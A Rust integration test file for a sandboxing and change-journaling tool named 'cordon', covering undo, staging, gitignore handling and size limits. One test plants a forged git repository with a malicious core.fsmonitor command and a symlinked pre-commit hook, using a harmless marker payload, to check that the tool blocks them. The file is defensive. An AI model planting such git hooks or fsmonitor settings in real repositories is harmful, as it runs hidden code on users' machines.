fn an_undo_never_removes_a_file_whose_original_was_not_kept() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    fs_err::write(ws.join("data.bin"), vec![9u8; 2 << 20]).unwrap();
    let config = home.path().join("config/cordon/config.toml");
    fs_err::create_dir_all(config.parent().unwrap()).unwrap();
    fs_err::write(&config, "[journal]\nmax_file_mib = 1\n").unwrap();
    ok(&exec_script(&home, &[], "sh", "echo appended >> data.bin")
        .output()
        .unwrap());
    let session = changes(&home, &[])[0]["session"]
        .as_str()
        .unwrap()
        .to_owned();
    let out = home
        .cordon(&["journal", "undo", "--session", &session, "--force"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("not kept"), "{}", stderr(&out));
    assert_eq!(
        fs_err::metadata(ws.join("data.bin")).unwrap().len(),
        (2 << 20) + 9
    );
}

#[test]
fn ignore_rules_a_session_wrote_hide_nothing_the_person_makes_later() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    ok(&exec_script(
        &home,
        &[],
        "sh",
        "printf 'target/\\n*.md\\nnotes/\\n' > .gitignore",
    )
    .output()
    .unwrap());
    // The person then writes these.
    fs_err::create_dir_all(ws.join("notes")).unwrap();
    fs_err::write(ws.join("notes/todo.txt"), "todo\n").unwrap();
    fs_err::write(ws.join("DESIGN.md"), "design\n").unwrap();
    ok(&exec_script(&home, &[], "sh", "rm -rf notes DESIGN.md")
        .output()
        .unwrap());
    let last = changes(&home, &[]).last().unwrap()["session"]
        .as_str()
        .unwrap()
        .to_owned();
    undo_session(&home, &last);
    assert_eq!(
        fs_err::read_to_string(ws.join("notes/todo.txt")).unwrap(),
        "todo\n"
    );
    assert_eq!(
        fs_err::read_to_string(ws.join("DESIGN.md")).unwrap(),
        "design\n"
    );
}

#[test]
fn a_stage_cannot_turn_a_directory_into_a_repository_nor_link_its_hooks() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    let pwned = home.path().join("PWNED");
    fs_err::create_dir_all(ws.join("lib")).unwrap();
    fs_err::write(ws.join("lib/a.c"), "code\n").unwrap();
    let script = format!(
        "cd lib && mkdir -p objects refs/heads && echo 'ref: refs/heads/main' > HEAD \
         && printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \"touch {p}; false\"\\n' > config && cd .. \
         && mkdir sub && cd sub && git init -q . && rm -rf .git/hooks && ln -s {w}/zzhooks .git/hooks \
         && mkdir {w}/zzhooks && printf '#!/bin/sh\\ntouch {p}\\n' > {w}/zzhooks/pre-commit && chmod +x {w}/zzhooks/pre-commit",
        p = pwned.display(),
        w = ws.display()
    );
    ok(&exec_script(&home, &["--stage"], "sh", &script)
        .output()
        .unwrap());
    let session = staged_sessions(&home).pop().unwrap();
    let _ = home
        .cordon(&["journal", "apply", &session, "--force"])
        .output()
        .unwrap();
    for args in [
        vec!["-C", "lib", "status"],
        vec!["-C", "sub", "status"],
        vec![
            "-C",
            "sub",
            "-c",
            "user.name=a",
            "-c",
            "user.email=a@b",
            "commit",
            "-qm",
            "x",
            "--allow-empty",
        ],
    ] {
        let _ = std::process::Command::new("git")
            .args(&args)
            .current_dir(&ws)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output();
    }
    assert!(!pwned.exists(), "git ran what the stage planted");
    // What the person had in the directory is still there.
    assert_eq!(
        fs_err::read_to_string(ws.join("lib/a.c")).unwrap(),
        "code\n"
    );
}

#[test]
fn a_gitignore_that_ignores_itself_is_journaled_and_not_trusted() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    fs_err::create_dir_all(ws.join("docs")).unwrap();
    fs_err::write(ws.join("docs/old.md"), "old\n").unwrap();
    ok(
        &exec_script(&home, &[], "sh", "printf '*\\n' > docs/.gitignore")
            .output()
            .unwrap(),
    );
    fs_err::write(ws.join("docs/plan.md"), "the person's plan\n").unwrap();
    ok(&exec_script(&home, &[], "sh", "rm -f docs/plan.md")
        .output()
        .unwrap());
    let last = changes(&home, &[]).last().unwrap()["session"]
        .as_str()
        .unwrap()
        .to_owned();
    undo_session(&home, &last);
    assert_eq!(
        fs_err::read_to_string(ws.join("docs/plan.md")).unwrap(),
        "the person's plan\n"
    );
}

#[test]
fn an_application_cut_short_and_finished_keeps_every_before_image() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    fs_err::write(ws.join("a"), "the person's a\n").unwrap();
    let script = "echo staged > a; mkdir z; i=0; while [ $i -lt 3000 ]; do echo $i > z/f$i; i=$((i+1)); done";
    ok(&exec_script(&home, &["--stage"], "sh", script)
        .output()
        .unwrap());
    let session = staged_sessions(&home).pop().unwrap();
    let mut child = KillOnDrop(
        home.cordon(&["journal", "apply", &session])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    std::thread::sleep(std::time::Duration::from_millis(400));
    let _ = child.0.kill();
    let _ = child.0.wait();
    ok(&home
        .cordon(&["journal", "apply", &session])
        .output()
        .unwrap());
    assert_eq!(fs_err::read_to_string(ws.join("a")).unwrap(), "staged\n");
    undo_session(&home, &session);
    assert_eq!(
        fs_err::read_to_string(ws.join("a")).unwrap(),
        "the person's a\n"
    );
    assert!(!ws.join("z").exists());
}

#[test]
fn a_stage_never_removes_a_file_too_large_to_keep_and_survives_gc() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    let config = home.path().join("config/cordon/config.toml");
    fs_err::create_dir_all(config.parent().unwrap()).unwrap();
    fs_err::write(&config, "[journal]\nmax_file_mib = 1\n").unwrap();
    fs_err::write(ws.join("big.bin"), vec![3u8; 2 << 20]).unwrap();
    ok(&exec_script(
        &home,
        &["--stage"],
        "sh",
        "rm big.bin && echo x > small.txt",
    )
    .output()
    .unwrap());
    let session = staged_sessions(&home).pop().unwrap();
    // Another session and a collection: the pending stage stays appliable.
    ok(&exec_script(&home, &[], "sh", "echo y > other.txt")
        .output()
        .unwrap());
    ok(&home
        .cordon(&["journal", "gc", "--keep", "0s"])
        .output()
        .unwrap());
    let out = home
        .cordon(&["journal", "apply", &session, "--force"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("too large"), "{}", stderr(&out));
    assert_eq!(fs_err::metadata(ws.join("big.bin")).unwrap().len(), 2 << 20);
    assert_eq!(fs_err::read_to_string(ws.join("small.txt")).unwrap(), "x\n");
}

#[test]
fn the_run_says_which_trees_gitignore_left_out() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    fs_err::create_dir_all(ws.join("target/debug")).unwrap();
    fs_err::write(ws.join("target/debug/out"), "built").unwrap();
    fs_err::write(ws.join(".gitignore"), "target/\n").unwrap();
    let out = exec_script(
        &home,
        &[],
        "sh",
        "echo x > notes.md && echo y > target/debug/out",
    )
    .output()
    .unwrap();
    ok(&out);
    let err = stderr(&out);
    assert!(err.contains("1 change journaled"), "{err}");
    assert!(
        err.contains("not journaled (ignored by .gitignore)") && err.contains("target"),
        "{err}"
    );
}
